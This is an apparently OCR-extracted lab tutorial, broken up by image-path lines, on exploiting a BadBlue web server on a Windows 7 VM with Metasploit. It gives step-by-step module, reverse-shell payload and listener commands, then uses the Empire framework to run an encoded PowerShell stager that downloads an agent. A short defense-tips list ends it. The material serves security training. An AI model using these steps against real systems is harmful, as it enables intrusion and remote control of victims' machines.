Empire and Metasploit 101

Goal: Use Empire and metasploit in example situation of network exploitation and post-exploitation host enumeration. We will exploit a network service on a Windows 7 VM, and then use our low-privilege shell to then execute an empire powershell stager, which will create an Empire agent on the local Windows 7 VM. After this, we will look through the various options available as an Empire agent. Following this, we will generate a DLL stager within Empire, and then use our existing meterpreter sessionon the Windows 7 VM to perform a DLL injection attack, to inject another Empire agent, directly into memory.

Pre-Stuff: Empire is not just for windows. It has python based agents that can run on OS X and Linux. It's communication profile between agents and listeners is configurable, similar to CobaltStrikes. You can use pre-built or custom-made ones to employ such functionality. Empire is designed to stay off disk and in memory as much as possible. Empire does contain modules that will not follow this and will touch disk. For information on Empire Modules, I recommend looking at the Github. That is where you will find the latest supported modules.

Related Links:

Required Software:

Download Windows 7 VM * https://developer.microsoft.com/en-us/microsoft-edge/tools/vms/

Software to download/install within the Windows 7 VM: * BadBlue - ExploitDB * Application * Unzip the .tar file with 7zip, and then extract the resulting zip file to end with the installer .exe.Download Kali VM * https://www.offensive-security.com/kali-linux-vmware-virtualbox-image-download/

Commads to run/Software to install within the Kali VM: * Update repos * 'apt update && apt upgrade -y' * Empire QuickStart * https://github.com/EmpireProject/Empire * 'git clone ' * 'cd Empire' * './setup/install.sh' * './setup/setup_database.py' * Empire is now setup and configured!

I leave it to the reader to import/configure both VMs to their particular desired environment/virtualizationplatform. For this document, I will assume both machines are within the same subnet of 1.1.254.*.

Kali VM - Windows 7 VM -


  • Turn on both virtual machines. Ensure everything is working correctly so far.
  • Kali:
    • Launch Metasploit * msfconsole

      • Launch the postgres DB
      • Perform a network scan on the windows machine to look for vulnerable services:
        • db_nmap -sS -sV --version-intensity=0 -p80
      • Perform a search for the string 'badblue 2.7'
      • Note the module 'BadBlue 2.72b PassThru Buffer Overflow'
      • Use/load the module:
        • 'use exploit/windows/http/badblue_passthru'
      • Display the available targets
        • 'show targets'
      • Display the available options
        • 'show options'
      • Set RHOST
        • 'set RHOST'
      • Set a payload• For this, we'll use the regular reverse_tcp meterpreter
        • 'set payload windows/meterpreter/reverse_tcp'
      • Show payload options
        • 'show payload options'
      • Set LHOST for the payload(needs to callback to somewhere)
        • 'set LHOST'
      • Show options one more time to make sure everything is correct
        • 'show options'
      • If everything is good, just type:
        • 'run' and hit enter.
      • Congratulations! You should now have an active meterpreter session and be sitting at a meterpreter prompt.
      • Try typing 'help' to see available commands
      • For now, we're going to leave this be. Simply open another terminal, and go onto the next part.• Empire

      • cd into the directory where you downloaded/installed Empire
      • run Empire with the command ./empire
      • About Empire:
        • General workflow: Create listener -> Create stager -> Stager instantiates/pulls down/runs an Agent
        • Creating listeners in Empire is done by entering the listener menu, setting the appropriate options, and then issuing the command 'execute'
      • Enter the 'listener' menu
        • 'listeners'
      • Show the options available for listeners
        • 'show options'
      • Set your desired option changes
        • 'set Name Test1A'
      • Run Listener
        • 'run'
      • This instantiates the listener and causes it to start listening for agents• Generate a Stager Stagers - Empire
        • Generating agents in Empire is similar to creating listeners
      • enter the command
        • 'back'
      • This should put you back at the Empire main menu. If not, keep issuing the back command until you find yourself at the main menu
      • Once at the main menu, type the command
        • 'usestager'
        • then press tab twice
        • This will list all available stagers for use
        • For now, we are only concerned with the 'launcher' stager
      • Type the command
        •'usestager launcher'
      • You will now be in the 'stager/launcher' menu
      • Type the command
        • 'options'
        • This will show you all available options for the currently selected stager
      • We want to set the options 'Listener' and 'OutFile'
      • To enable the launcher to use our previously configured listener, issue the command
        • 'set Listener Test1A'
          • This will set our previously created listener as our new agents listener
      • Type the command
        • 'set OutFile /tmp/test1'
          • This will store the stager command generated in a text file. After generating the stager command, we will copy it from the designated file and run it.
      • Verify everything is correct with the command
        • 'options'
      • Once verified, now type
        • 'generate'
      • This will generate your configured&customized stager. It will be stored at the previously set file location, '/tmp/test'.
      • We then want to navigate to the txt file, open it, and copy the single line of txt. This is the encoded powershell command that will download an agent from your listener

      • Instantiating the agent
      • Now, go back to your meterpreter session you created earlier, and issue the command
        • 'shell'
          • This will drop you to a system shell prompt. Perfect for executing that one line powershell command.
      • Paste the command you copied earlier into the current shell prompt and hit enter. You should receive noconfirmation on your windows command prompt. You should however receive a notice on your other command prompt, that you have a new agent in Empire!

      • Interacting with the agent
      • At the Empire command menu, you should see an alert for a new agent, with a name consisting of a series of semi-random alphanumeric characters
      • To interact with and issue commands to your new agent, you must issue the following command from the main menu of the Empire command menu
        • 'agents'
      • Then
        • 'interact 'Agent_Name_Here''
      • At this point, you will be issuing commands to the selected agent. Empire is NOT a real time tool. Empire works by giving agents tasks to perform, and then the agents report the results to the corresponding listener. Users can issue commands and have near-real time response times through an agent, however, they should not be thought of as a real-time interactive terminals, and more as a errand-boys running tasks.

      • Using the Agent
      • Using agents are accomplished by issuing them tasks.
      • Agents 101 - powershellempire.com
      • Specifically, the 'usemodule' command is of specific interest.
      • If we double tap tab here,we can see all available command modules available currently.
        • Or we can check Empire's current main modules on github: Link
        • Most of them are very nicelydocumented within the code/have a brief description at the top of the file. If you are running it, you should probably know what it does.

Tips fordefending against this: * Procmonprocess logging * Network Logging * Hunting empire